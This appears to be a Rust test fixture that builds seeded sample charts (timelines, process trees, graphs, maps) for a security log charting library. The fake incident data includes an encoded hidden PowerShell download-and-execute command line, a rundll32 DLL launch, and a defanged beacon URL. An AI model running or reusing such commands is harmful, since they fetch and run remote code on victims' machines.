//! Seeded models of every kind.

#![allow(dead_code, unreachable_pub, missing_docs, reason = "tests and the gallery each use a part")]

use huntsql_charts::model::*;

pub const DAY: i64 = 86_400_000_000;
pub const START: i64 = 1_714_953_600_000_000;

/// Numbers that look random and are the same everywhere.
pub struct Random(pub u64);

impl Random {
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    pub fn below(&mut self, limit: u64) -> u64 {
        (self.next() >> 11) % limit.max(1)
    }

    pub fn part(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1_u64 << 53) as f64
    }
}

pub fn label(text: &str) -> Label {
    Label { shown: text.to_owned(), raw: None }
}

pub fn source(name: &str) -> Source {
    Source { name: name.to_owned(), sql: name.to_owned() }
}

pub fn chart(title: &str, subtitle: &str, rows: usize, body: Body) -> Chart {
    Chart {
        title: title.to_owned(),
        subtitle: subtitle.to_owned(),
        rows_in: rows,
        rows_drawn: rows,
        warnings: Vec::new(),
        zone: "UTC".to_owned(),
        theme: Theme::Auto,
        references: Vec::new(),
        body,
    }
}

pub const HOSTS: [&str; 12] = [
    "dc01.corp.example",
    "web-03",
    "workstation-0417",
    "sql-prod-2",
    "jump",
    "backup-server-with-a-rather-long-name.corp.example",
    "mail",
    "laptop-ähren",
    "сервер-1",
    "build-7",
    "printer",
    "vpn",
];

pub fn lanes(mark: LaneMark, names: &[&str]) -> Lanes {
    Lanes {
        mark,
        times: Vec::new(),
        lane_of: Vec::new(),
        lanes: names.iter().map(|name| Lane { label: label(name), rows: 0 }).collect(),
        lane_source: Some(source("host")),
        time_source: source("ts"),
        ends: Vec::new(),
        end_source: None,
        values: Vec::new(),
        value_source: None,
        shared_axis: false,
        colors: None,
        details: Details::default(),
        detail_rows: 2_000_000,
    }
}

/// Sorts by time and counts.
pub fn settle(body: &mut Lanes) {
    let mut order: Vec<usize> = (0..body.times.len()).collect();
    order.sort_by_key(|row| body.times[*row]);
    body.times = order.iter().map(|row| body.times[*row]).collect();
    body.lane_of = order.iter().map(|row| body.lane_of[*row]).collect();
    if !body.ends.is_empty() {
        body.ends = order.iter().map(|row| body.ends[*row]).collect();
    }
    if !body.values.is_empty() {
        body.values = order.iter().map(|row| body.values[*row]).collect();
    }
    if let Some(colors) = &mut body.colors {
        colors.codes = order.iter().map(|row| colors.codes[*row]).collect();
    }
    for lane in &mut body.lanes {
        lane.rows = 0;
    }
    for lane in &body.lane_of {
        body.lanes[*lane as usize].rows += 1;
    }
}

/// Events with a day cycle and bursts.
pub fn events(rows: usize, names: &[&str], days: i64) -> Lanes {
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let mut body = lanes(LaneMark::Event, names);
    while body.times.len() < rows {
        let lane = ((random.part().powi(2)) * names.len() as f64) as u32;
        let time = if random.part() < 0.15 {
            START + (random.below(9) as i64 * 2 + 1) * DAY * days / 20 + random.below((DAY / 24) as u64) as i64
        } else {
            let time = random.below((DAY * days) as u64) as i64;
            let hour = (time % DAY) as f64 / DAY as f64;
            if random.part() > 0.25 + 0.75 * (std::f64::consts::PI * hour).sin() {
                continue;
            }
            START + time
        };
        body.times.push(time);
        body.lane_of.push(lane.min(names.len() as u32 - 1));
    }
    settle(&mut body);
    body
}

pub fn references() -> Vec<Reference> {
    [(2.2, "phishing mail"), (2.35, "macro ran"), (2.5, "first beacon to hxxps://cdn[.]evil[.]example"), (6.8, "ransom note")]
        .iter()
        .map(|(days, text)| Reference { time: START + (*days * DAY as f64) as i64, label: (*text).to_owned() })
        .collect()
}

pub fn timeline() -> Chart {
    let body = events(20_000, &HOSTS, 7);
    let mut chart = chart("Logons by host", "20,000 rows of security.parquet", 20_000, Body::Lanes(body));
    chart.references = references();
    chart.zone = "Europe/Berlin".to_owned();
    chart
}

pub fn timeline_few() -> Chart {
    let mut body = events(90, &HOSTS[..5], 7);
    let mut random = Random(7);
    let values = ["failed logon", "logon", "service installed", "other"];
    body.colors = Some(Colors {
        source: source("event"),
        codes: body.times.iter().map(|_| random.below(4) as u8).collect(),
        values: values.iter().map(|value| label(value)).collect(),
    });
    let mut chart = chart("Events of five hosts, by kind", "90 rows of security.parquet", 90, Body::Lanes(body));
    chart.references = references();
    chart
}

pub fn timeline_colored() -> Chart {
    let mut body = events(5_000, &HOSTS[..1], 30);
    body.lane_source = None;
    body.lanes[0].label = Label::default();
    let mut random = Random(11);
    body.colors = Some(Colors {
        source: source("user"),
        codes: body.times.iter().map(|_| (random.part().powi(2) * 6.0) as u8).collect(),
        values: ["alice", "bob", "svc-backup", "administrator", "carol", "other"].iter().map(|value| label(value)).collect(),
    });
    let mut chart = chart("One lane, coloured by user", "5,000 rows", 5_000, Body::Lanes(body));
    chart.theme = Theme::Dark;
    chart
}

pub fn many_lanes() -> Chart {
    let names: Vec<String> = (0..150).map(|index| format!("host-{index:03}")).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    let mut body = events(40_000, &names, 2);
    body.lanes.sort_by_key(|lane| std::cmp::Reverse(lane.rows));
    let mut chart = chart("150 hosts", "40,000 rows", 40_000, Body::Lanes(body));
    chart.warnings.push("3 rows without a time are left out.".to_owned());
    chart.rows_in += 3;
    chart
}

pub fn durations() -> Chart {
    let mut random = Random(21);
    let mut body = lanes(LaneMark::Duration, &HOSTS[..6]);
    for _ in 0..140 {
        let time = START + random.below((DAY * 2) as u64) as i64;
        body.times.push(time);
        body.lane_of.push(random.below(6) as u32);
        body.ends.push(if random.part() < 0.08 { i64::MIN } else { time + (random.part().powi(4) * DAY as f64 * 0.6) as i64 });
    }
    body.end_source = Some(source("end_time"));
    settle(&mut body);
    let mut chart = chart("Remote sessions", "140 rows", 140, Body::Lanes(body));
    chart.references = vec![Reference { time: START + DAY, label: "account disabled".to_owned() }];
    chart
}

pub fn values(mark: LaneMark) -> Chart {
    let mut random = Random(33);
    let mut body = lanes(mark, &HOSTS[..3]);
    for lane in 0..3_u32 {
        for step in 0..(if mark == LaneMark::Line { 700 } else { 110 }) {
            let part = f64::from(step) / if mark == LaneMark::Line { 700.0 } else { 110.0 };
            body.times.push(START + (part * 3.0 * DAY as f64) as i64);
            body.lane_of.push(lane);
            let wave = 1.0 + (part * 6.0 * std::f64::consts::PI).sin() * 0.7 + random.part() * 0.4;
            let value = wave * 10f64.powi(3 + 2 * lane as i32) - if lane == 1 { 1e5 } else { 0.0 };
            body.values.push(if random.part() < 0.01 { f64::NAN } else { value });
        }
    }
    body.value_source = Some(source("bytes"));
    settle(&mut body);
    let rows = body.times.len();
    chart("Bytes sent by host", "sum of bytes an hour", rows, Body::Lanes(body))
}

pub fn series() -> Chart {
    let mut random = Random(5);
    let mut body = Series {
        times: Vec::new(),
        panel_of: Vec::new(),
        panels: vec![Lane { label: label("logons"), rows: 720 }, Lane { label: label("bytes to the internet"), rows: 720 }],
        panel_source: Some(source("metric")),
        time_source: source("hour"),
        value_source: source("n"),
        values: Vec::new(),
        baseline: Vec::new(),
        low: Vec::new(),
        high: Vec::new(),
        scores: Vec::new(),
        anomalies: Vec::new(),
        details: Details::default(),
    };
    for step in 0..720_i64 {
        for panel in 0..2_u32 {
            let scale = if panel == 0 { 1.0 } else { 2.0e6 };
            let day = (step % 24) as f64 / 24.0;
            let expected = (120.0 + 90.0 * (std::f64::consts::TAU * (day - 0.3)).sin()) * scale;
            let odd = match (panel, step) {
                (0, 200) | (0, 201) | (1, 515) => 240.0,
                (1, 300..=304) => -110.0,
                _ => 0.0,
            } * scale;
            let value = (expected + (random.part() - 0.5) * 50.0 * scale + odd).max(0.0);
            body.times.push(START + step * DAY / 24);
            body.panel_of.push(panel);
            body.values.push(value);
            body.baseline.push(expected);
            body.low.push(expected - 55.0 * scale);
            body.high.push(expected + 55.0 * scale);
            body.scores.push(odd.abs() / scale / 20.0);
            body.anomalies.push(if odd > 0.0 {
                1
            } else if odd < 0.0 && value < expected - 55.0 * scale {
                -1
            } else {
                0
            });
        }
    }
    let mut chart = chart("What is unusual", "stl_anomalies of 1,440 hours", 1440, Body::Series(body));
    chart.references = vec![Reference { time: START + 12 * DAY, label: "patch day".to_owned() }];
    chart
}

pub fn detail_column(name: &str, values: &[String]) -> DetailColumn {
    let mut texts = vec![Label::default()];
    let codes = values
        .iter()
        .map(|value| {
            texts.push(label(value));
            texts.len() as u32 - 1
        })
        .collect();
    DetailColumn { source: source(name), codes, texts }
}

pub fn tree(rows: usize) -> Chart {
    let mut random = Random(77);
    let names = ["explorer.exe", "winword.exe", "powershell.exe", "cmd.exe", "rundll32.exe", "svchost.exe", "whoami.exe"];
    let lines = [
        r"C:\Windows\Explorer.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\alice\Downloads\invoice.docm" /o """#,
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgA",
        "cmd.exe /c dir",
        r"rundll32.exe C:\Users\Public\a.dll,Start",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p",
        "whoami /all",
    ];
    let mut body = Tree {
        depths: Vec::new(),
        parents: Vec::new(),
        times: Vec::new(),
        time_source: Some(source("ts")),
        colors: None,
        details: Details::default(),
        inferred: None,
    };
    let (mut process, mut pid, mut line, mut key, mut made_up, mut user) = (vec![], vec![], vec![], vec![], vec![], vec![]);
    let mut stack: Vec<u32> = Vec::new();
    for row in 0..rows {
        let depth = if row == 0 { 0 } else { (stack.len() as u64).min(random.below(stack.len() as u64 + 2)) as usize };
        stack.truncate(depth);
        body.parents.push(stack.last().copied());
        body.depths.push(depth as u16 + 1);
        stack.push(row as u32);
        if stack.len() > 7 {
            stack.pop();
        }
        let kind = if row == 0 { 0 } else { random.below(names.len() as u64) as usize };
        process.push(names[kind].to_owned());
        pid.push((1000 + random.below(9000) * 4).to_string());
        line.push(lines[kind].to_owned());
        key.push(format!("k{row}"));
        made_up.push((row % 17 == 9).to_string());
        user.push(random.below(3) as u8);
        body.times.push(if row % 17 == 9 { i64::MIN } else { START + row as i64 * 7_654_321 });
    }
    body.details.columns = vec![
        detail_column("process", &process),
        detail_column("pid", &pid),
        detail_column("command_line", &line),
        detail_column("key", &key),
        detail_column("inferred", &made_up),
    ];
    body.inferred = Some(4);
    body.colors =
        Some(Colors { source: source("user"), codes: user, values: ["alice", "SYSTEM", "bob"].iter().map(|user| label(user)).collect() });
    chart("Processes of workstation-0417", &format!("{rows} processes in 1 tree"), rows, Body::Tree(body))
}

pub fn matrix(columns: u32, rows: u32, circles: bool, scale: Scale) -> Chart {
    let mut random = Random(99);
    let axis = |name: &str, count: u32, prefix: &str| Axis {
        source: source(name),
        labels: (0..count).map(|index| label(&format!("{prefix}{index}"))).collect(),
        by_count: (0..count).collect(),
        by_name: (0..count).collect(),
        by_similarity: (0..count).rev().collect(),
    };
    let mut cells = Vec::new();
    for y in 0..rows {
        for x in 0..columns {
            if random.part() < 0.6 {
                let value = (10f64.powf(random.part() * 4.0) / f64::from(1 + y)).ceil();
                cells.push(Cell { x, y, value, rows: value as u64, seen: Some((START, START + DAY)) });
            }
        }
    }
    let count = cells.len();
    let body = Matrix {
        x: axis("dest_port", columns, "port "),
        y: axis("host", rows, "server-"),
        measure: "sum of bytes".to_owned(),
        cells,
        scale,
        circles,
        sort: "count".to_owned(),
    };
    chart("Hosts and ports", "sum of bytes, logarithmic", count * 9, Body::Matrix(body))
}

pub fn map() -> Chart {
    let mut random = Random(4242);
    let cities = [
        ("Berlin, DE", 52.5, 13.4),
        ("New York, US", 40.7, -74.0),
        ("São Paulo, BR", -23.5, -46.6),
        ("Moscow, RU", 55.7, 37.6),
        ("Beijing, CN", 39.9, 116.4),
        ("Lagos, NG", 6.5, 3.4),
        ("Sydney, AU", -33.9, 151.2),
        ("Tokyo, JP", 35.7, 139.7),
        ("Amsterdam, NL", 52.4, 4.9),
        ("Suva, FJ", -18.1, 178.4),
    ];
    let mut places = Vec::new();
    for (index, (name, latitude, longitude)) in cities.iter().enumerate() {
        for copy in 0..(6 - index.min(5)) {
            places.push(Place {
                latitude: latitude + if copy == 0 { 0.0 } else { random.part() * 6.0 - 3.0 },
                longitude: longitude + if copy == 0 { 0.0 } else { random.part() * 6.0 - 3.0 },
                label: label(&if copy == 0 { (*name).to_owned() } else { format!("near {name} {copy}") }),
                rows: (6000.0 / ((index + 1) * (copy + 1) * (copy + 1)) as f64) as u64,
                value: None,
                color: None,
                seen: None,
            });
        }
    }
    places.sort_by_key(|place| std::cmp::Reverse(place.rows));
    let rows = places.iter().map(|place| place.rows as usize).sum();
    let body =
        Map { places, label_source: Some(source("city")), value_source: None, colors: Vec::new(), color_source: None, time_source: None };
    chart("Where logons come from", "by city of the address", rows, Body::Map(body))
}

pub fn graph() -> Chart {
    let mut random = Random(1234);
    let (mut nodes, mut edges) = (Vec::new(), Vec::new());
    for index in 0..48_u32 {
        let hub = index % 12;
        let (x, y) = (f64::from(hub % 4) / 1.7 - 0.85, f64::from(hub / 4) / 1.25 - 0.8);
        let at = if index < 12 {
            (x, y)
        } else {
            ((x + random.part() * 0.44 - 0.22).clamp(-1.0, 1.0), (y + random.part() * 0.44 - 0.22).clamp(-1.0, 1.0))
        };
        let kind = u8::from(index >= 12) + u8::from(index >= 40);
        nodes.push(Node {
            label: label(&match kind {
                0 => HOSTS[hub as usize].to_owned(),
                1 => format!("user-{index}"),
                _ => format!("203[.]0[.]113[.]{index}"),
            }),
            kind,
            rows: 1 + random.below(if index < 12 { 400 } else { 40 }),
            at,
            attributes: Vec::new(),
        });
        if index >= 12 {
            edges.push(Edge { source: index, target: hub, rows: 1 + random.below(90), value: None, label: String::new(), seen: None });
        } else if index > 0 {
            edges.push(Edge {
                source: index - 1,
                target: index,
                rows: 1 + random.below(20),
                value: None,
                label: "ssh".to_owned(),
                seen: None,
            });
        }
    }
    let rows = edges.iter().map(|edge| edge.rows as usize).sum();
    let body = Graph {
        nodes,
        kinds: ["host", "user", "address"].map(str::to_owned).to_vec(),
        attributes: Vec::new(),
        edges,
        directed: true,
        source: source("user"),
        target: source("host"),
        time_source: None,
    };
    chart("Who logs on where", "48 nodes, 47 edges", rows, Body::Graph(body))
}

pub fn sankey() -> Chart {
    let names: [&[&str]; 3] = [
        &["mail", "web", "usb"],
        &["winword.exe", "chrome.exe", "explorer.exe", "outlook.exe"],
        &["powershell.exe", "cmd.exe", "rundll32.exe", "(nothing)"],
    ];
    let stages: Vec<Stage> = names
        .iter()
        .enumerate()
        .flat_map(|(level, names)| names.iter().map(move |name| Stage { label: label(name), level: level as u16, other: false }))
        .collect();
    let mut random = Random(3);
    let mut flows = Vec::new();
    for (sources, targets) in [(0..3_u32, 3..7_u32), (3..7, 7..11)] {
        for source in sources {
            for target in targets.clone() {
                if random.part() < 0.7 {
                    let value = (10.0 + random.part().powi(3) * 400.0).round();
                    flows.push(Flow { source, target, value, rows: value as u64 });
                }
            }
        }
    }
    chart(
        "From vector to process",
        "counts of alerts",
        2_000,
        Body::Sankey(Sankey {
            stages,
            flows,
            measure: "count of rows".to_owned(),
            sources: vec![source("vector"), source("parent"), source("process")],
            pairs: false,
        }),
    )
}

pub fn bars(parts: usize) -> Chart {
    let mut random = Random(8);
    let series = (0..parts)
        .map(|part| Numbers {
            label: label(["failed", "succeeded", "unknown"][part % 3]),
            values: (0..12).map(|index| (random.part() * 9000.0 / f64::from(index + 1)).round()).collect(),
        })
        .collect();
    let body = Bars {
        labels: HOSTS.iter().map(|host| label(host)).collect(),
        source: source("host"),
        measure: "count of rows".to_owned(),
        series,
        color_source: Some(source("outcome")),
        stacked: parts != 2,
        other: false,
    };
    chart("Logons by host", "the twelve with most rows", 20_000, Body::Bars(body))
}

pub fn histogram(time: bool) -> Chart {
    let mut random = Random(6);
    let bins = 40;
    let edges: Vec<f64> = (0..=bins)
        .map(|bin| if time { START as f64 + f64::from(bin) * DAY as f64 / 10.0 } else { 10f64.powf(f64::from(bin) / 6.0) })
        .collect();
    let series = vec![Numbers {
        label: Label::default(),
        values: (0..bins).map(|bin| ((-((f64::from(bin) - 15.0) / 8.0).powi(2)).exp() * 900.0 + random.part() * 60.0).round()).collect(),
    }];
    let body =
        Histogram { edges, source: source(if time { "ts" } else { "bytes" }), series, color_source: None, is_time: time, is_log: !time };
    chart(if time { "Rows over time" } else { "Sizes of transfers" }, "40 bins", 15_000, Body::Histogram(body))
}

/// Every sample with its name.
pub fn all() -> Vec<(&'static str, Chart)> {
    vec![
        ("timeline", timeline()),
        ("timeline_few", timeline_few()),
        ("timeline_colored", timeline_colored()),
        ("many_lanes", many_lanes()),
        ("durations", durations()),
        ("values_line", values(LaneMark::Line)),
        ("values_bar", values(LaneMark::Bar)),
        ("values_point", values(LaneMark::Point)),
        ("series", series()),
        ("tree", tree(40)),
        ("tree_large", tree(3000)),
        ("matrix", matrix(14, 10, false, Scale::Log)),
        ("matrix_circles", matrix(24, 12, true, Scale::Inverse)),
        ("matrix_large", matrix(200, 150, false, Scale::Log)),
        ("map", map()),
        ("graph", graph()),
        ("sankey", sankey()),
        ("bars", bars(1)),
        ("bars_stacked", bars(3)),
        ("bars_beside", bars(2)),
        ("histogram", histogram(false)),
        ("histogram_time", histogram(true)),
        ("option", chart("An option of ECharts", "", 10, Body::EChartsOption(serde_json::json!({})))),
    ]
}
